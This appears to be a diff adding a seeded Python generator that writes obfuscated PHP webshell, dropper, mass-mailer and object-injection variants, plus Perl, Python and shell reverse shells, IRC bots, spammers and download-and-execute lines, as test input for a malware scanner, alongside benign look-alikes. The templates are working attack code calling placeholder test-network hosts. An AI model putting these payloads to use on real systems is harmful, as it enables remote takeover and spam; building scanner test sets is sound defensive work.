@@ -1,0 +1,862 @@
+#!/usr/bin/env python3
+"""Seeded generator of invented variants, for `make eval`.
+
+It writes obfuscated variants of hand-written technique templates: malicious
+ones (request input reaching eval, a command, a callback, an include, a file
+write or a mail loop; eval layers; script backdoors) and benign ones that look
+alike to a byte pattern (a fixed exec, a compiled-template eval, an updater,
+an upload handler, a newsletter, a language pack, JS and Markdown). They were
+written here from the techniques, not from any sample of the corpus.
+
+The output is text for the scanner: it goes to a fresh directory under a temp
+dir, is never executed and never served. Names are neutral (a hash), so that a
+verdict can never come from a file name; the class of every file is only in
+variants.tsv:
+    file  class  technique  lang  expect  transforms
+expect is 'high' (must be found high or critical), 'any' (must be found) or
+'none' (benign: no high or critical finding).
+
+usage: gen_variants.py --out DIR [--seed N] [--per N]
+Same seed and per, same bytes.
+"""
+
+import argparse
+import hashlib
+import os
+import random
+import sys
+import tempfile
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from phpgen import (Gen, b64, deflate_raw, gz_layer, mangle, php_dq, php_sq, rot13,  # noqa: E402
+                    strip_marks, verbatim)
+
+EXEC_NAMES = ["system", "passthru", "shell_exec", "exec"]
+CODE_NAMES = ["assert"]
+TEST_NET = ["192.0.2.%d", "198.51.100.%d", "203.0.113.%d"]
+
+
+# ---------------------------------------------------------------------------
+# surroundings: most injections live inside an ordinary-looking file
+
+
+def host_before(g):
+    r = g.rng
+    x = r.randrange(5)
+    if x == 0:
+        return ""
+    if x == 1:
+        return "/**\n * %s\n *\n * @package %s\n */\n" % (
+            r.choice(["Theme functions", "Cache helper", "Plugin bootstrap", "Compatibility layer"]),
+            r.choice(["Starter", "Acme_Cache", "SiteKit", "Legacy"]))
+    if x == 2:
+        f = g.fname()
+        return ("function %s($s)\n{\n    return htmlspecialchars($s, ENT_QUOTES, 'UTF-8');\n}\n" % f)
+    if x == 3:
+        return "if (!defined('ABSPATH')) {\n    define('ABSPATH', __DIR__ . '/');\n}\n"
+    return "error_reporting(0);\n" + ("set_time_limit(0);\n" if r.random() < 0.5 else "")
+
+
+def host_after(g):
+    r = g.rng
+    if r.random() < 0.6:
+        return ""
+    return "\n$%s = array('version' => '%d.%d', 'cache' => true);\n" % (
+        g.ident(), r.randint(1, 6), r.randint(0, 9))
+
+
+def php_file(g, body, host=True, close=None):
+    """Assemble one PHP file: open tag, surroundings, prelude, body; then the
+    surface noise over the PHP parts."""
+    r = g.rng
+    parts = [host_before(g) if host else ""]
+    parts += [s + "\n" for s in g.take()]
+    parts.append(body if body.endswith("\n") else body + "\n")
+    if host:
+        parts.append(host_after(g))
+    code = "".join(parts)
+    code = mangle(code, r, g.level, g.transforms)
+    lead = ""
+    if host and g.malicious and r.random() < 0.08:
+        lead = "GIF89a\n"  # an image header before the code: a polyglot, never in an app
+        g.transforms.add("gif-header")
+    close = r.random() < 0.3 if close is None else close
+    return lead + g.open_tag() + strip_marks(code) + ("?>\n" if close else "")
+
+
+def echo_wrap(g, expr):
+    r = g.rng
+    x = r.randrange(4)
+    if x == 0:
+        return "echo %s;" % expr
+    if x == 1:
+        return "print(%s);" % expr
+    if x == 2:
+        return "echo '<pre>' . %s . '</pre>';" % expr
+    return "%s;" % expr
+
+
+def guard(g, src_expr, body):
+    """if (isset(INPUT)) { body } -- the usual form, or nothing around it.
+    isset() takes variables only, not calls or casts."""
+    if g.rng.random() < 0.5 or not src_expr.startswith("$") or "(" in src_expr:
+        return body
+    return "if (%s(%s)) {\n    %s\n}" % (g.fn("isset"), src_expr, body)
+
+
+# ---------------------------------------------------------------------------
+# malicious PHP templates
+
+
+def t_eval_input(g):
+    r = g.rng
+    x = g.src()
+    if r.random() < 0.4:
+        dec = r.choice(["base64_decode", "str_rot13", "stripslashes", "gzinflate(base64_decode", "urldecode"])
+        x = ("%s(%s))" % (dec, x)) if dec.startswith("gz") else "%s(%s)" % (g.fn(dec), x)
+        g.transforms.add("decode-input")
+    x = g.cast(x)
+    form = r.randrange(5)
+    if form <= 1:
+        body = "%s%s(%s);" % (g.at(), g.fn("eval"), x)
+    elif form == 2:
+        body = "%s%s(%s);" % (g.at(), g.fn("assert"), x)
+    elif form == 3:
+        f = g.var()
+        body = "%s = %s(%s, %s);\n%s();" % (f, g.fn("create_function"), php_sq(""), x, f)
+    else:
+        body = "%s(%s, %s, %s);" % (g.fn("preg_replace"), php_sq("/.*/e"), x, php_sq(""))
+    return php_file(g, body)
+
+
+def t_system_input(g):
+    r = g.rng
+    raw = g.src()
+    x = g.cast(raw)
+    sink = r.choice(["system", "passthru", "shell_exec", "exec", "popen", "proc_open", "pcntl_exec",
+                     "backtick"])
+    g.transforms.add("sink:" + sink)
+    if sink in ("system", "passthru"):
+        body = "%s%s(%s);" % (g.at(), g.fn(sink), x)
+    elif sink == "shell_exec":
+        body = echo_wrap(g, "%s(%s)" % (g.fn(sink), x))
+    elif sink == "exec":
+        o = g.var()
+        body = "%s(%s, %s);\necho %s(\"\\n\", %s);" % (g.fn("exec"), x, o, g.fn("implode"), o)
+    elif sink == "popen":
+        h = g.var()
+        body = ("%s = %s(%s, 'r');\nwhile (!feof(%s)) {\n    echo fgets(%s);\n}\npclose(%s);"
+                % (h, g.fn("popen"), x, h, h, h))
+    elif sink == "proc_open":
+        p = g.var()
+        d = g.var()
+        body = ("%s = array(1 => array('pipe', 'w'), 2 => array('pipe', 'w'));\n"
+                "$proc = %s(%s, %s, %s);\necho stream_get_contents(%s[1]);"
+                % (d, g.fn("proc_open"), x, d, p, p))
+    elif sink == "pcntl_exec":
+        body = "%s('/bin/sh', array('-c', %s));" % (g.fn("pcntl_exec"), x)
+    else:
+        c = g.var()
+        body = "%s = %s;\necho `%s`;" % (c, x, c)
+    return php_file(g, guard(g, raw, body))
+
+
+def t_varfunc_callee(g):
+    r = g.rng
+    name = r.choice(EXEC_NAMES + CODE_NAMES)
+    f = g.var()
+    x = g.cast(g.src())
+    g.stmt("%s = %s;" % (f, g.enc(name)))
+    body = ("echo " if name in ("shell_exec", "exec") else "") + "%s%s(%s);" % (g.at(), f, x)
+    return php_file(g, body)
+
+
+def t_callback(g):
+    r = g.rng
+    name = r.choice(EXEC_NAMES + CODE_NAMES)
+    cb = g.enc(name)
+    x = g.src()
+    kind = r.choice(["call_user_func", "call_user_func_array", "array_map", "usort", "uasort",
+                     "array_filter", "array_walk", "preg_replace_callback", "ob_start",
+                     "register_shutdown_function", "iterator_apply_like"])
+    g.transforms.add("cb:" + kind)
+    if kind == "call_user_func":
+        body = "%s%s(%s, %s);" % (g.at(), g.fn(kind), cb, x)
+    elif kind == "call_user_func_array":
+        body = "%s(%s, array(%s));" % (g.fn(kind), cb, x)
+    elif kind == "array_map":
+        body = "%s(%s, %s);" % (g.fn(kind), cb, "[%s]" % x if r.random() < 0.5 else "array(%s)" % x)
+    elif kind in ("usort", "uasort"):
+        a = g.var()
+        body = "%s = array(%s, '');\n%s(%s, %s);" % (a, x, g.fn(kind), a, cb)
+    elif kind == "array_filter":
+        body = "%s(array(%s), %s);" % (g.fn(kind), x, cb)
+    elif kind == "array_walk":
+        a = g.var()
+        body = "%s = array(%s);\n%s(%s, %s);" % (a, x, g.fn(kind), a, cb)
+    elif kind == "preg_replace_callback":
+        f = g.var()
+        m = g.var()
+        g.stmt("%s = %s;" % (f, cb))
+        body = ("echo %s('/.+/s', function (%s) use (%s) { return %s(%s[0]); }, %s);"
+                % (g.fn(kind), m, f, f, m, x))
+    elif kind == "ob_start":
+        body = "%s(%s);\necho %s;\n%s();" % (g.fn("ob_start"), cb, x, g.fn("ob_end_flush"))
+    elif kind == "register_shutdown_function":
+        body = "%s(%s, %s);" % (g.fn(kind), cb, x)
+    else:
+        it = g.var()
+        body = ("%s = new ArrayIterator(array(%s));\nforeach (%s as %s) { %s(%s, %s); }"
+                % (it, x, it, "$v", g.fn("call_user_func"), cb, "$v"))
+    return php_file(g, body)
+
+
+def t_varvar(g):
+    r = g.rng
+    name = r.choice(EXEC_NAMES + CODE_NAMES)
+    target = g.ident()
+    n = g.var()
+    x = g.src()
+    g.stmt("%s = %s;" % (n, g.lit(target)))
+    g.stmt("$%s = %s;" % (n, g.enc(name)))
+    form = r.randrange(3)
+    if form == 0:
+        body = "$%s(%s);" % (target, x)
+    elif form == 1:
+        body = "${%s}(%s);" % (n, x)
+    else:
+        body = "$%s(%s);" % (n, x)  # $$n(...)
+    return php_file(g, body)
+
+
+def t_callee_input(g):
+    """The callee itself comes from the request: $_GET['a']($_GET['b'])."""
+    r = g.rng
+    kind = r.choice(["GET", "POST", "REQUEST", "COOKIE"])
+    ka, kb = g.key(), g.key() + "2"
+    form = r.randrange(4)
+    if form == 0:
+        body = "%s$_%s[%s]($_%s[%s]);" % (g.at(), kind, g.lit(ka), kind, g.lit(kb))
+    elif form == 1:
+        f = g.var()
+        body = "%s = %s;\n%s(%s);" % (f, g.src(kind, ka), f, g.src(kind, kb))
+    elif form == 2:
+        body = "%s($_%s);\n$%s($%s);" % (g.fn("extract"), kind, ka, kb)
+    else:
+        body = "%s(%s, array(%s));" % (g.fn("array_map"), g.src(kind, ka), g.src(kind, kb))
+    return php_file(g, body)
+
+
+def t_array_varfunc(g):
+    r = g.rng
+    name = r.choice(EXEC_NAMES + CODE_NAMES)
+    a = g.var()
+    x = g.src()
+    k = g.key()
+    if r.random() < 0.5:
+        g.stmt("%s = array(%s, %s);" % (a, g.enc(name), g.lit("x")))
+        body = "%s[0](%s);" % (a, x)
+    else:
+        g.stmt("%s = [%s => %s];" % (a, g.lit(k), g.enc(name)))
+        body = "%s[%s](%s);" % (a, g.lit(k), x)
+    return php_file(g, body)
+
+
+def t_destruct_gadget(g):
+    r = g.rng
+    cls = g.fname().capitalize()
+    name = r.choice(EXEC_NAMES + CODE_NAMES)
+    form = r.randrange(3)
+    # __wakeup runs on unserialize() only: the object-injection form
+    magic = r.choice(["__destruct", "__destruct", "__toString"] + (["__wakeup"] if form == 2 else []))
+    g.transforms.add("magic:" + magic)
+    ret = "return '';" if magic == "__toString" else ""
+    if form == 0:  # callee and argument in properties, set from here
+        body = ("class %s {\n    public $f;\n    public $a;\n    public function %s() {\n"
+                "        $g = $this->f;\n        $g($this->a);\n        %s\n    }\n}\n"
+                "$o = new %s();\n$o->f = %s;\n$o->a = %s;\n"
+                % (cls, magic, ret, cls, g.enc(name), g.src()))
+        if magic == "__toString":
+            body += "echo $o;\n"
+    elif form == 1:  # eval of a property
+        body = ("class %s {\n    public $c;\n    function %s() {\n        %s($this->c);\n        %s\n"
+                "    }\n}\n$o = new %s;\n$o->c = %s;\n"
+                % (cls, magic, g.fn("eval"), ret, cls, g.src()))
+        if magic == "__toString":
+            body += "print $o;\n"
+    else:  # object injection: the gadget is planted, the object comes from input
+        body = ("class %s {\n    public $c = '';\n    function %s() {\n        %s($this->c);\n"
+                "        %s\n    }\n}\n%s(%s(%s));\n"
+                % (cls, magic, g.fn(r.choice(["system", "eval", "passthru"])), ret,
+                   g.fn("unserialize"), g.fn("base64_decode") if r.random() < 0.5 else "",
+                   g.src()))
+    return php_file(g, body)
+
+
+def t_include_input(g):
+    r = g.rng
+    x = g.src()
+    inc = g.fn(r.choice(["include", "include_once", "require", "require_once"]))
+    form = r.randrange(4)
+    if form == 0:
+        body = "%s%s %s;" % (g.at(), inc, x)
+    elif form == 1:
+        body = "%s(%s);" % (inc, x)
+    elif form == 2:
+        body = "%s %s . %s;" % (inc, g.enc("data://text/plain;base64,", allow=["plain", "concat"]), x)
+    else:
+        body = "%s $_FILES[%s]['tmp_name'];" % (inc, g.lit(g.key()))
+    return php_file(g, body)
+
+
+def t_include_hidden_path(g):
+    """A fixed include whose path is hidden in escapes, to a file that does not
+    look like PHP (the injection in wp-settings.php)."""
+    r = g.rng
+    user = r.choice(["alice", "shop", "web12", "site"])
+    path = "/home/%s/public_html/wp-content/%s/%s" % (
+        user, r.choice(["uploads/2023/04", "plugins/.cache", "themes/.tmp", "languages"]),
+        r.choice(["favicon_8a1c.ico", ".b6e1.png", "thumbs.db", ".ht_cache.jpg"]))
+    if r.random() < 0.5:
+        lit = php_dq(path, r, escape_rate=0.5)
+    else:
+        lit = g.enc(path, allow=["concat", "base64", "strrev", "rot13"])
+    inc = g.fn(r.choice(["include", "include_once", "require_once"]))
+    return php_file(g, "%s%s %s;" % (g.at(), inc, lit))
+
+
+BACKDOOR_PAYLOADS = [
+    "if(isset($_POST['{k}'])){{@eval($_POST['{k}']);}}",
+    "@system($_REQUEST['{k}']);",
+    "echo shell_exec($_GET['{k}']);",
+    "$f=$_FILES['{k}'];if($f){{move_uploaded_file($f['tmp_name'],$f['name']);}}",
+    "if(!empty($_COOKIE['{k}'])){{passthru($_COOKIE['{k}']);}}exit;",
+    "$c=$_POST['{k}'];echo `$c`;",
+]
+
+
+def t_eval_layers(g):
+    r = g.rng
+    code = r.choice(BACKDOOR_PAYLOADS).format(k=g.key())
+    depth = r.randint(1, 4)
+    g.transforms.add("layers:%d" % depth)
+    for i in range(depth):
+        if r.random() < 0.2:
+            # eval('?>' . X): the layer is written out as a file, open tag and all
+            expr, kind = gz_layer("<?php " + code, r)
+            code = "%s('?>' . %s);" % (g.fn("eval"), expr)
+        else:
+            expr, kind = gz_layer(code, r)
+            code = "%s%s(%s);" % (g.at(), g.fn("eval"), expr)
+        g.transforms.add("layer:" + kind)
+    if r.random() < 0.3 and code.count("'?>'") == 0:
+        # the outermost blob decoded into a variable first
+        v = g.var()
+        start = code.index("(") + 1
+        code = "%s = %s;\n%s(%s);" % (v, code[start:code.rindex(")")], g.fn("eval"), v)
+    return php_file(g, code)
+
+
+def t_heredoc_payload(g):
+    r = g.rng
+    k = g.key()
+    code = r.choice(BACKDOOR_PAYLOADS).format(k=k)
+    label = r.choice(["EOT", "EOF", "DATA", "CODE", "PAYLOAD"])
+    quoted = r.random() < 0.5  # nowdoc: <<<'X'
+    g.transforms.add("nowdoc" if quoted else "heredoc")
+    v = g.var()
+    form = r.randrange(3)
+    if form == 0:
+        blob = b64(code)
+        content = "\n".join(blob[i:i + 60] for i in range(0, len(blob), 60))
+        use = "%s(%s(%s));" % (g.fn("eval"), g.fn("base64_decode"), v)
+    elif form == 1:
+        content = rot13(code) if quoted else rot13(code).replace("$", "\\$")
+        use = "%s(%s(%s));" % (g.fn("eval"), g.fn("str_rot13"), v)
+    else:
+        # the callee's name in a heredoc: its value has no trailing newline,
+        # so $v is exactly the name
+        content = r.choice(EXEC_NAMES)
+        use = "%s(%s);" % (v, g.src())
+    # the closing label must not start a line of the body
+    assert not any(line.startswith(label) for line in content.split("\n")), content
+    body = "%s = <<<%s\n%s\n%s;\n%s" % (v, "'%s'" % label if quoted else label, verbatim(content), label, use)
+    return php_file(g, body)
+
+
+def t_uploader(g):
+    r = g.rng
+    k = g.key()
+    f = "$_FILES[%s]" % g.lit(k)
+    dest = r.choice(["%s['name']" % f, "%s . '/' . %s['name']" % ("__DIR__", f),
+                     "%s . %s['name']" % (g.src(), f), "%s" % g.src()])
+    mv = r.choice(["move_uploaded_file", "move_uploaded_file", "copy"])
+    if r.random() < 0.4:
+        fv = g.var()
+        g.stmt("%s = %s;" % (fv, g.enc(mv)))
+        call = "%s(%s['tmp_name'], %s)" % (fv, f, dest)
+    else:
+        call = "%s(%s['tmp_name'], %s)" % (g.fn(mv), f, dest)
+    form = ""
+    if r.random() < 0.5:
+        form = ("?>" + verbatim('<form method="post" enctype="multipart/form-data">'
+                                '<input type="file" name="%s"><input type="submit" value="%s">'
+                                '</form>\n' % (k, r.choice(["Upload", "OK", ">>", "Go"]))) + "<?php\n")
+    body = "%sif (%s) {\n    echo 'ok';\n} else {\n    echo 'fail';\n}\n" % (form, call)
+    if r.random() < 0.5:
+        body = "if (isset(%s)) {\n%s}\n" % (f, body)
+    return php_file(g, body)
+
+
+def t_dropper_input(g):
+    r = g.rng
+    p, c = g.src(), g.src()
+    if r.random() < 0.4:
+        c = "%s(%s)" % (g.fn("base64_decode"), c)
+    form = r.randrange(3)
+    if form == 0:
+        body = "%s%s(%s, %s);" % (g.at(), g.fn("file_put_contents"), p, c)
+    elif form == 1:
+        h = g.var()
+        body = "%s = %s(%s, 'w');\n%s(%s, %s);\n%s(%s);" % (
+            h, g.fn("fopen"), p, g.fn(r.choice(["fwrite", "fputs"])), h, c, g.fn("fclose"), h)
+    else:
+        w = g.var()
+        g.stmt("%s = %s;" % (w, g.enc("file_put_contents")))
+        body = "%s(%s, %s);" % (w, p, c)
+    return php_file(g, body)
+
+
+def t_dropper_fixed(g):
+    """Writes a webshell (decoded from a literal, or downloaded) to a .php file."""
+    r = g.rng
+    shell = "<?php " + r.choice(BACKDOOR_PAYLOADS).format(k=g.key()) + " ?>"
+    target = r.choice(["__DIR__ . '/wp-cache.php'", "'../.%s.php'" % g.ident().strip("_"),
+                       "$_SERVER['DOCUMENT_ROOT'] . '/wp-includes/class-wp-%s.php'" % g.ident().strip("_"),
+                       "dirname(__FILE__) . '/images/.thumb.php'"])
+    form = r.randrange(3)
+    if form == 0:
+        content = "%s(%s)" % (g.fn("base64_decode"), g.lit(b64(shell)))
+    elif form == 1:
+        content = "%s(%s(%s))" % (g.fn("gzinflate"), g.fn("base64_decode"),
+                                  php_sq(b64(deflate_raw(shell.encode()))))
+    else:
+        url = "http://%s/%s.txt" % (r.choice(TEST_NET) % r.randint(2, 250), g.ident().strip("_"))
+        content = "%s(%s)" % (g.fn("file_get_contents"), g.enc(url, allow=["plain", "concat", "strrev"]))
+    fp = g.fn(r.choice(["file_put_contents", "file_put_contents"]))
+    body = "%s%s(%s, %s);\n" % (g.at(), fp, target, content)
+    if r.random() < 0.5:
+        body += "echo 'done';\n"
+    return php_file(g, body)
+
+
+def mail_list_expr(g):
+    r = g.rng
+    k = g.key()
+    kind = r.choice(["upload", "upload", "textarea", "file_next", "input_path"])
+    g.transforms.add("list:" + kind)
+    if kind == "upload":
+        return "%s($_FILES[%s]['tmp_name'])" % (g.fn("file"), g.lit(k))
+    if kind == "textarea":
+        return "%s(\"\\n\", %s)" % (g.fn("explode"), g.src(r.choice(["POST", "REQUEST"])))
+    if kind == "file_next":
+        return "%s(__DIR__ . %s)" % (g.fn("file"), g.lit("/" + r.choice(["list.txt", "emails.txt", "m.txt", "l"])))
+    return "%s(%s)" % (g.fn("file"), g.src())  # a list at a path or URL given in the request
+
+
+def t_mailer_loop(g):
+    r = g.rng
+    lst = mail_list_expr(g)
+    to, subj, msg, frm = g.var(), g.src("POST"), g.src("POST"), g.src("POST")
+    mail = g.fn("mail")
+    if r.random() < 0.3:
+        mv = g.var()
+        g.stmt("%s = %s;" % (mv, g.enc("mail")))
+        mail = mv
+    hdr = "\"From: \" . %s . \"\\r\\nContent-type: text/html\\r\\n\"" % frm
+    if r.random() < 0.5:  # the outbreak's one-liner
+        L = g.var()
+        n = g.var()
+        body = ("%s=%s;%s=0;foreach(%s as %s){if(%s%s(%s(%s),%s,%s,%s)){%s++;}}echo %s;"
+                % (L, lst, n, L, to, g.at(), mail, g.fn("trim"), to, subj, msg, hdr, n, n))
+    else:
+        L = g.var()
+        i = g.var()
+        body = ("%s = %s;\nfor (%s = 0; %s < %s(%s); %s++) {\n    %s%s(%s(%s[%s]), %s, %s, %s);\n"
+                "    %s(%d);\n}\necho 'sent';" % (L, lst, i, i, g.fn("count"), L, i, g.at(), mail,
+                                                   g.fn("trim"), L, i, subj, msg, hdr, g.fn("usleep"),
+                                                   r.choice([0, 1000, 200000])))
+    return php_file(g, body)
+
+
+def t_phpmailer_loop(g):
+    r = g.rng
+    lst = mail_list_expr(g)
+    m, e = g.var(), g.var()
+    cls = r.choice(["PHPMailer\\PHPMailer\\PHPMailer", "PHPMailer"])
+    req = r.choice(["require 'PHPMailer/src/PHPMailer.php';\nrequire 'PHPMailer/src/SMTP.php';\n",
+                    "require_once __DIR__ . '/vendor/autoload.php';\n",
+                    "include 'class.phpmailer.php';\n"])
+    smtp = ""
+    if r.random() < 0.6:
+        smtp = ("%s->isSMTP();\n%s->Host = %s;\n%s->SMTPAuth = true;\n%s->Username = %s;\n"
+                "%s->Password = %s;\n%s->Port = %d;\n" % (m, m, g.src("POST"), m, m, g.src("POST"),
+                                                         m, g.src("POST"), m, r.choice([25, 465, 587])))
+    body = ("%s%s = new %s();\n%s%s->setFrom(%s, %s);\n%s->Subject = %s;\n"
+            "foreach (%s as %s) {\n    %s->clearAddresses();\n    %s->addAddress(%s(%s));\n"
+            "    %s->msgHTML(%s);\n    %s%s->send();\n}\necho 'done';"
+            % (req, m, cls, smtp, m, g.src("POST"), g.src("POST"), m, g.src("POST"), lst, e, m, m,
+               g.fn("trim"), e, m, g.src("POST"), g.at(), m))
+    return php_file(g, body)
+
+
+# ---------------------------------------------------------------------------
+# script backdoors (Perl, Python, shell): variation in names, hosts, layout
+
+
+def ip(r):
+    return r.choice(TEST_NET) % r.randint(2, 250)
+
+
+def shebang(r, lang):
+    return {"pl": r.choice(["#!/usr/bin/perl\n", "#!/usr/bin/perl -w\n", "#!/usr/bin/env perl\n"]),
+            "py": r.choice(["#!/usr/bin/env python3\n", "#!/usr/bin/python\n", ""]),
+            "sh": r.choice(["#!/bin/sh\n", "#!/bin/bash\n", ""])}[lang]
+
+
+def pl_var(g):
+    return g.ident().lstrip("_") or "x"
+
+
+def t_perl_revshell(g):
+    r = g.rng
+    h, p = ip(r), r.choice([443, 4444, 1337, 8080, 53])
+    s = pl_var(g).upper()
+    if r.random() < 0.5:
+        body = ("use Socket;\n$i=\"%s\";$p=%d;\nsocket(%s,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\n"
+                "if(connect(%s,sockaddr_in($p,inet_aton($i)))){\n open(STDIN,\">&%s\");\n"
+                " open(STDOUT,\">&%s\");\n open(STDERR,\">&%s\");\n exec(\"/bin/sh -i\");\n};\n"
+                % (h, p, s, s, s, s, s))
+    else:
+        c = pl_var(g)
+        body = ("use IO::Socket::INET;\nmy $%s = IO::Socket::INET->new(PeerAddr => '%s', PeerPort => %d,"
+                " Proto => 'tcp') or die;\nwhile (my $l = <$%s>) {\n  my $o = `$l`;\n  print $%s $o;\n}\n"
+                % (c, h, p, c, c))
+    return shebang(r, "pl") + body
+
+
+def t_perl_irc_bot(g):
+    r = g.rng
+    srv, nick, chan = ip(r), "b" + g.ident().strip("_$")[:6], "#" + r.choice(["x", "k", "ops", "z0"])
+    so = pl_var(g)
+    body = ("use IO::Socket;\nmy $%s = IO::Socket::INET->new(PeerAddr => '%s', PeerPort => %d);\n"
+            "print $%s \"NICK %s\\r\\nUSER %s 8 * :%s\\r\\nJOIN %s\\r\\n\";\n"
+            "while (my $line = <$%s>) {\n"
+            "  if ($line =~ /^PING (.*)/) { print $%s \"PONG $1\\r\\n\"; next; }\n"
+            "  if ($line =~ /PRIVMSG \\S+ :%s(.+)/) {\n"
+            "    my @out = `$1`;\n    print $%s \"PRIVMSG %s :$_\\r\\n\" for @out;\n  }\n}\n"
+            % (so, srv, r.choice([6667, 6666, 7000, 8080]), so, nick, nick, nick, chan, so, so,
+               r.choice(["!sh ", "!exec ", "\\.cmd ", "\\@x "]), so, chan))
+    return shebang(r, "pl") + body
+
+
+def t_perl_smtp_bot(g):
+    r = g.rng
+    lst = r.choice(["list.txt", "mails", "/tmp/.m"])
+    if r.random() < 0.5:
+        body = ("use Net::SMTP;\nopen(my $fh, '<', '%s') or die;\nwhile (my $to = <$fh>) {\n"
+                "  chomp $to;\n  my $s = Net::SMTP->new('%s', Timeout => 20) or next;\n"
+                "  $s->mail('%s');\n  $s->to($to);\n  $s->data();\n  $s->datasend(\"Subject: %s\\n\\n%s\\n\");\n"
+                "  $s->dataend();\n  $s->quit;\n}\n"
+                % (lst, ip(r), r.choice(["info@bank-secure.example", "noreply@service.example"]),
+                   r.choice(["Account notice", "Invoice", "Verify"]), r.choice(["click here", "see attached"])))
+    else:
+        body = ("use IO::Socket::INET;\nmy @rcpt = `cat %s`;\nforeach my $r (@rcpt) {\n  chomp $r;\n"
+                "  my $c = IO::Socket::INET->new(PeerAddr => \"$r\" =~ /@(.+)/ ? $1 : '%s', PeerPort => 25);\n"
+                "  next unless $c;\n  print $c \"HELO x\\r\\nMAIL FROM:<%s>\\r\\nRCPT TO:<$r>\\r\\nDATA\\r\\n"
+                "Subject: %s\\r\\n\\r\\n%s\\r\\n.\\r\\nQUIT\\r\\n\";\n  close $c;\n}\n"
+                % (lst, ip(r), r.choice(["a\\@b.example", "support\\@pay.example"]),
+                   r.choice(["Hello", "Your parcel"]), r.choice(["offer", "track it"])))
+    return shebang(r, "pl") + body
+
+
+def t_python_revshell(g):
+    r = g.rng
+    h, p = ip(r), r.choice([443, 4444, 9001])
+    s = "s_" + g.ident().lstrip("_")
+    body = ("import socket,subprocess,os\n%s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
+            "%s.connect((\"%s\",%d))\nos.dup2(%s.fileno(),0)\nos.dup2(%s.fileno(),1)\nos.dup2(%s.fileno(),2)\n"
+            % (s, s, h, p, s, s, s))
+    body += r.choice(["import pty\npty.spawn(\"/bin/sh\")\n", "subprocess.call([\"/bin/sh\",\"-i\"])\n"])
+    return shebang(r, "py") + body
+
+
+def t_python_spammer(g):
+    r = g.rng
+    lst = r.choice(["list.txt", "emails.txt", "/tmp/.l"])
+    body = ("import smtplib\nfrom email.mime.text import MIMEText\n"
+            "s = smtplib.SMTP(%s, %d)\n" % (repr(ip(r)), r.choice([25, 587])))
+    if r.random() < 0.5:
+        body += "s.login(%s, %s)\n" % (repr("user"), repr("pass"))
+    body += ("for to in open(%s).read().split():\n    m = MIMEText(%s, 'html')\n    m['Subject'] = %s\n"
+             "    m['From'] = %s\n    m['To'] = to\n    s.sendmail(m['From'], [to], m.as_string())\ns.quit()\n"
+             % (repr(lst), repr("<a href='http://%s/'>login</a>" % ip(r)), repr("Security alert"),
+                repr("service@account.example")))
+    return shebang(r, "py") + body
+
+
+def t_sh_download_exec(g):
+    r = g.rng
+    u = "http://%s/%s" % (ip(r), r.choice(["x", "b.sh", ".k", "update"]))
+    t = r.choice(["/tmp/.x", "/var/tmp/.sys", "/dev/shm/k"])
+    body = r.choice([
+        "curl -fsSL %s | sh\n" % u,
+        "wget -q -O %s %s; chmod +x %s; %s &\n" % (t, u, t, t),
+        "cd /tmp; (curl -s -o %s %s || wget -q %s -O %s) && chmod 755 %s && nohup %s >/dev/null 2>&1 &\n"
+        % (t, u, u, t, t, t),
+    ])
+    return shebang(r, "sh") + body
+
+
+def t_sh_revshell(g):
+    r = g.rng
+    h, p = ip(r), r.choice([443, 4444, 5555])
+    body = r.choice([
+        "bash -i >& /dev/tcp/%s/%d 0>&1\n" % (h, p),
+        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc %s %d > /tmp/f\n" % (h, p),
+        "nc -l -p %d -e /bin/sh &\n" % p,
+    ])
+    return shebang(r, "sh") + body
+
+
+# ---------------------------------------------------------------------------
+# benign templates: look like the malicious ones to a byte pattern
+
+
+def b_fixed_exec(g):
+    r = g.rng
+    src, dst = g.var(), g.var()
+    form = r.randrange(4)
+    if form == 0:
+        body = ("function make_thumb(%s, %s)\n{\n    %s = '/usr/bin/convert ' . escapeshellarg(%s) . "
+                "' -thumbnail 200x200 ' . escapeshellarg(%s);\n    exec(%s, $out, $rc);\n    return $rc === 0;\n}\n"
+                % (src, dst, "$cmd", src, dst, "$cmd"))
+    elif form == 1:
+        body = ("$rev = trim((string) shell_exec('git rev-parse --short HEAD 2>/dev/null'));\n"
+                "define('APP_REVISION', $rev !== '' ? $rev : 'unknown');\n")
+    elif form == 2:
+        body = ("$id = (int) $_GET['id'];\n$file = sprintf('/var/cache/app/report-%%d.pdf', $id);\n"
+                "exec('/usr/bin/pdftotext ' . escapeshellarg($file) . ' -', $lines, $status);\n"
+                "echo htmlspecialchars(implode(\"\\n\", $lines));\n")
+    else:
+        body = ("$spec = array(1 => array('pipe', 'w'), 2 => array('pipe', 'w'));\n"
+                "$p = proc_open(array('gs', '-q', '-dBATCH', '-sDEVICE=png16m', '-o', %s, %s), $spec, $pipes);\n"
+                "if (is_resource($p)) {\n    stream_get_contents($pipes[1]);\n    proc_close($p);\n}\n"
+                % (dst, src))
+        g.stmt("%s = __DIR__ . '/cache/page.png';" % dst)
+        g.stmt("%s = __DIR__ . '/docs/manual.pdf';" % src)
+    return php_file(g, body)
+
+
+def b_template_eval(g):
+    r = g.rng
+    form = r.randrange(3)
+    if form == 0:
+        body = ("class TemplateCache\n{\n    private $dir;\n    public function __construct($dir) { $this->dir = $dir; }\n"
+                "    public function render($name, array $vars)\n    {\n"
+                "        $compiled = file_get_contents($this->dir . '/' . md5($name) . '.php');\n"
+                "        extract($vars, EXTR_SKIP);\n        ob_start();\n        eval('?>' . $compiled);\n"
+                "        return ob_get_clean();\n    }\n}\n")
+    elif form == 1:
+        body = ("function compile_tpl($src)\n{\n    $php = preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', "
+                "'<?php echo htmlspecialchars($$1); ?>', $src);\n    return $php;\n}\n"
+                "$title = 'Welcome';\n$tpl = file_get_contents(__DIR__ . '/templates/home.html');\n"
+                "eval('?>' . compile_tpl($tpl));\n")
+    else:
+        body = ("$code = '<?php return ' . var_export(array('a' => 1, 'b' => 2), true) . ';';\n"
+                "$config = eval('?>' . $code);\n")
+    return php_file(g, body)
+
+
+def b_updater(g):
+    r = g.rng
+    url = "https://updates.%s.example/%s-%d.%d.zip" % (r.choice(["acme", "plugin", "cms"]),
+                                                       r.choice(["core", "theme"]), r.randint(1, 9), r.randint(0, 9))
+    body = ("function app_update($expected_sha256)\n{\n    if (!current_user_can('update_plugins')) {\n"
